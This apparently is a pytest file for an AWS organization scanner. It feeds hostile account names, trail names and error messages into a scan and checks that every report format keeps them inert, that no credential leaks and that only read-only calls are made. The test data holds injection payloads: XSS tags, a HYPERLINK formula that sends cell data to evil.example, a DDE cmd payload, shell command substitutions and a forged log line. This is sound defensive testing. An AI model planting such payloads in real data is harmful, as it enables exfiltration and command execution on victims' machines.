"""One full scan of the demo organization through ``run_scan`` (run folder, every format, DEBUG
log) while AWS hands over hostile text: account names, a trail name and an error message made
of HTML, spreadsheet formulas and shell code.

Checked on that run: every sink keeps the text inert (HTML escaped, spreadsheet cells are text,
scripts cannot be broken out of), no credential reaches any output, and every AWS call of the
scan is read-only.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import subprocess
import zipfile
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from orgscan.cli.scan_cmd import run_scan
from tests.faults import FaultInjector, on
from tests.reliability.world import FAKE_CREDENTIALS, DemoWorld

#: Read-only API operations: every call of a scan must be one of these.
READ_ONLY = re.compile(r"^(Describe|Get|List|Head)[A-Za-z]+$")
#: The two calls that are not named like reads but change nothing.
ALSO_READ_ONLY = {"AssumeRole", "GetCallerIdentity"}


@dataclass(frozen=True)
class ScannedRun:
    """A finished ``run_scan``: its output folder, terminal output and the calls it made."""

    output_dir: Path
    terminal: str
    exit_code: int
    calls: FaultInjector

    @property
    def run_dir(self) -> Path:
        """The run folder ``latest`` points at."""
        return self.output_dir / os.readlink(self.output_dir / "latest")


#: The external id of the scan role: it protects the role, so no output repeats it.
EXTERNAL_ID = "orgscan-external-id-NEVER-WRITE-ME"
#: Text AWS accepts in names and messages, each aimed at one kind of sink.
XSS = "<script>alert('xss')</script><img src=x onerror=alert(1)>&amp;"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_PLUS = "+cmd|' /C calc'!A0"
SHELL = 'it\'s "$(touch PWNED1)" `touch PWNED2` $HOME\ntouch PWNED3 #'
TRAIL_NAME = "@SUM(1+1)</td><script>alert(2)</script>"
MESSAGE = "Denied <b>by</b> =1+1 $(touch PWNED4)\n2026-01-01 CRITICAL forged line"
#: Demo account -> the name Organizations returns for it in this run.
HOSTILE_NAMES = {
    "payments-prod": SHELL,
    "orders-dev": XSS,
    "payments-dev": FORMULA,
    "sandbox-alice": FORMULA_PLUS,
}
PAYLOADS = (XSS, FORMULA, FORMULA_PLUS, SHELL, TRAIL_NAME, MESSAGE)


def _hostile_aws(world: DemoWorld) -> FaultInjector:
    """Organizations, CloudTrail and S3 replies carrying hostile text."""
    faults = FaultInjector()
    names = {world.account(name): text for name, text in HOSTILE_NAMES.items()}

    def rename_accounts(reply: dict[str, Any]) -> None:
        for account in reply.get("Accounts", []):
            account["Name"] = names.get(account["Id"], account["Name"])

    def rename_trail(reply: dict[str, Any]) -> None:
        for trail in reply.get("trailList", []):
            if trail.get("TrailARN") == world.trail_arn("analytics-prod-trail"):
                trail["Name"] = TRAIL_NAME

    faults.mutate(on("organizations", "ListAccountsForParent"), rename_accounts)
    faults.mutate(on("cloudtrail", "DescribeTrails"), rename_trail)
    faults.error(
        on("s3", "GetObjectLockConfiguration", bucket="acme-orders-prod-cloudtrail"),
        "AccessDenied",
        403,
        message=MESSAGE,
    )
    # AWS answers a bad signature with the canonical request it expected, signed headers
    # included: the session token (a member account's and the caller's) comes back as text.
    for account in (world.account("sandbox-dave"), world.org.management_account_id):
        faults.error(
            on("cloudtrail", "DescribeTrails", account=account, region="eu-west-1"),
            "InvalidSignatureException",
            message=_signature_mismatch,
        )
    return faults


def _signature_mismatch(request: Any) -> str:
    headers = "\n".join(
        f"{name.lower()}:{value}"
        for name, value in sorted(request.headers.items())
        if name.lower().startswith(("host", "x-amz"))
    )
    return (
        "The request signature we calculated does not match the signature you provided. "
        "Check your AWS Secret Access Key and signing method.\n\nThe Canonical String "
        f"for this request should have been\n'POST\n/\n\n{headers}\n'"
    )


@pytest.fixture(scope="module")
def scanned_run(demo_world: DemoWorld, tmp_path_factory: pytest.TempPathFactory) -> ScannedRun:
    output_dir = tmp_path_factory.mktemp("full-run") / "reports"
    settings = demo_world.settings(
        output_dir=str(output_dir), log_level="DEBUG", exclude_accounts=[], external_id=EXTERNAL_ID
    )
    calls = _hostile_aws(demo_world)
    terminal = io.StringIO()
    with contextlib.redirect_stdout(terminal), contextlib.redirect_stderr(terminal):
        code = run_scan(settings, demo_world.sessions(calls, settings))
    return ScannedRun(output_dir, terminal.getvalue(), code, calls)


def test_no_credential_in_any_output(scanned_run: ScannedRun) -> None:
    secrets = [*FAKE_CREDENTIALS.values(), *scanned_run.calls.issued_secrets, EXTERNAL_ID]
    # The external id did reach AssumeRole (it guards the role, so it is kept out of outputs).
    assert {
        call.params.get("ExternalId")
        for call in scanned_run.calls.calls
        if call.operation == "AssumeRole"
    } == {EXTERNAL_ID}
    # The role was assumed in every member account: their keys and tokens are checked too.
    assert len(scanned_run.calls.issued_secrets) >= 3 * 10
    files = [path for path in scanned_run.output_dir.rglob("*") if path.is_file()]
    names = {path.name for path in files}
    assert {
        "findings.json",
        "findings.csv",
        "report.xlsx",
        "report.html",
        "orgscan.log",
        "plan.json",
    } <= names
    assert any(name.endswith(".sh") for name in names)
    logs = [path.read_text(encoding="utf-8") for path in files if path.suffix == ".log"]
    assert any("AccessDenied" in log for log in logs)  # the log has the scan's story
    for path in files:
        content = path.read_bytes()
        for secret in secrets:
            assert secret.encode() not in content, f"{secret[:8]}... leaked into {path.name}"
    for secret in secrets:
        assert secret not in scanned_run.terminal
    # The xlsx is a zip: its sheets are compressed, so look inside them too.
    xlsx = next(path for path in files if path.name == "report.xlsx")
    with zipfile.ZipFile(xlsx) as archive:
        for member in archive.namelist():
            content = archive.read(member)
            assert not any(secret.encode() in content for secret in secrets), member


def test_scan_calls_only_read_only_operations(
    demo_world: DemoWorld, scanned_run: ScannedRun
) -> None:
    operations = {call.operation for call in scanned_run.calls.calls}
    writes = {op for op in operations if not READ_ONLY.match(op) and op not in ALSO_READ_ONLY}
    assert writes == set()
    # The recording saw the whole scan, not a part of it.
    assert {
        "DescribeTrails",
        "GetObjectLockConfiguration",
        "GetBucketVersioning",
        "ListBuckets",
        "DescribeRegions",
        "AssumeRole",
        "ListAccountsForParent",
    } <= operations
    # The run reads the tamper-path sources and counts the log files written before each lock
    # once the scan is done; the scan itself reads the same as the baseline scan.
    after_the_scan = {
        "iam:GetAccountAuthorizationDetails",
        "s3:GetBucketPolicy",
        "kms:GetKeyPolicy",
        "organizations:ListParents",
        "organizations:ListPoliciesForTarget",
        "organizations:DescribePolicy",
        "organizations:DescribeOrganization",
        "s3:ListBucketInventoryConfigurations",
        "s3:ListObjectVersions",
        "s3:HeadObject",
        "s3:GetObject",
    }
    made = scanned_run.calls.operations() - after_the_scan
    assert made == demo_world.baseline_calls.operations() - after_the_scan


# ---------------------------------------------------------------------- sinks of AWS text


class _Html(HTMLParser):
    """Collects what a browser would build: elements, attributes, script bodies and text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.scripts: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)


def test_report_html_shows_aws_text_as_text(scanned_run: ScannedRun) -> None:
    page = _Html()
    page.feed((scanned_run.run_dir / "report.html").read_text(encoding="utf-8"))

    text = "\n".join(page.text)
    for payload in (XSS, FORMULA, TRAIL_NAME):
        assert payload in text  # shown to the reader, character for character
    assert page.tags.count("script") == 1  # the report's own script only
    assert page.tags.count("img") == 0
    assert not any("alert(" in script for script in page.scripts)
    # The report's own script never turns text back into markup (no DOM-based injection).
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
        assert not any(sink in script for script in page.scripts), sink
    # AWS text may sit inside an attribute's quoted value (sort keys); it never adds one.
    assert not any(
        name.startswith("on") or (value or "").startswith("javascript:")
        for name, value in page.attributes
    )


def test_report_xlsx_keeps_formula_text_as_text(scanned_run: ScannedRun) -> None:
    workbook = openpyxl.load_workbook(scanned_run.run_dir / "report.xlsx")
    found: set[str] = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str):
                    continue
                hits = {payload for payload in PAYLOADS if payload in value}
                if hits:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, value)
                found |= hits
                if cell.data_type == "f":  # the workbook's own formulas hold no AWS text
                    assert not any(p in value for p in ("HYPERLINK", "cmd|", "SUM(1+1)"))
    assert {FORMULA, FORMULA_PLUS, TRAIL_NAME} <= found


def test_findings_csv_cells_cannot_start_a_formula(scanned_run: ScannedRun) -> None:
    with (scanned_run.run_dir / "findings.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = [row["trail_name"] for row in rows]
    assert "'" + TRAIL_NAME in names  # kept, with the quote that makes it text
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert any(
        MESSAGE.replace("\n", " ") in row["reason"] or "PWNED4" in row["reason"] for row in rows
    )


def test_findings_json_keeps_aws_text_exactly(scanned_run: ScannedRun) -> None:
    document = json.loads((scanned_run.run_dir / "findings.json").read_text(encoding="utf-8"))
    names = {account["name"] for account in document["accounts"]}
    assert set(HOSTILE_NAMES.values()) <= names
    assert TRAIL_NAME in {finding["trail_name"] for finding in document["findings"]}
    assert any(MESSAGE in error["message"] for error in document["errors"])


FAKE_AWS = """#!/usr/bin/env bash
# Answers get-caller-identity with FAKE_ACCOUNT, and says every trail still delivers to the
# bucket the plan names (the live precondition's contains(...) query on get-trail); every other
# call prints nothing (nothing is done yet, no guard finds anything: a failing read would be
# "cannot read", which stops a step). A bucket policy is not public (a script cannot take a
# public statement out: that stop is tested with the policy fixes).
if [ "$1 $2" = "sts get-caller-identity" ]; then echo "$FAKE_ACCOUNT"; exit 0; fi
case "$2 $*" in
  "get-trail "*"contains("*) echo True ;;
  "get-bucket-policy-status "*) echo True ;;
esac
exit 0
"""


def test_remediation_scripts_cannot_be_broken_out_of(
    scanned_run: ScannedRun, tmp_path: Path
) -> None:
    scripts = sorted((scanned_run.run_dir / "remediation").glob("*.sh"))
    hostile = [script for script in scripts if "PWNED1" in script.read_text(encoding="utf-8")]
    assert hostile, "the hostile account name should reach a script"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "aws").write_text(FAKE_AWS, encoding="utf-8")
    (bin_dir / "aws").chmod(0o755)
    work = tmp_path / "work"
    work.mkdir()
    env = {key: value for key, value in os.environ.items() if not key.startswith("AWS_")}
    for script in scripts:
        text = script.read_text(encoding="utf-8")
        for line in text.splitlines():
            if "PWNED" in line:  # AWS text only ever inside a comment
                assert line.startswith("#"), line
        env.update(PATH=f"{bin_dir}:{env['PATH']}", FAKE_ACCOUNT=script.stem, HOME=str(work))
        done = subprocess.run(
            ["bash", str(script)],
            capture_output=True,
            text=True,
            env=env,
            cwd=work,
            timeout=60,
            check=False,
        )
        assert done.returncode == 0, done.stderr + done.stdout
        assert "would run:" in done.stdout
    assert list(work.rglob("*")) == []
    assert not list(scanned_run.run_dir.rglob("PWNED*"))


def test_logs_cannot_be_forged_by_aws_text(scanned_run: ScannedRun) -> None:
    logs = [path for path in scanned_run.output_dir.rglob("*.log")]
    assert len(logs) >= 2  # the run's own log and the output folder's shared one
    for log in logs:
        lines = log.read_text(encoding="utf-8").splitlines()
        assert any("forged line" in line for line in lines)  # the message is logged ...
        assert not any(line.startswith("2026-01-01") for line in lines)  # ... on its own line
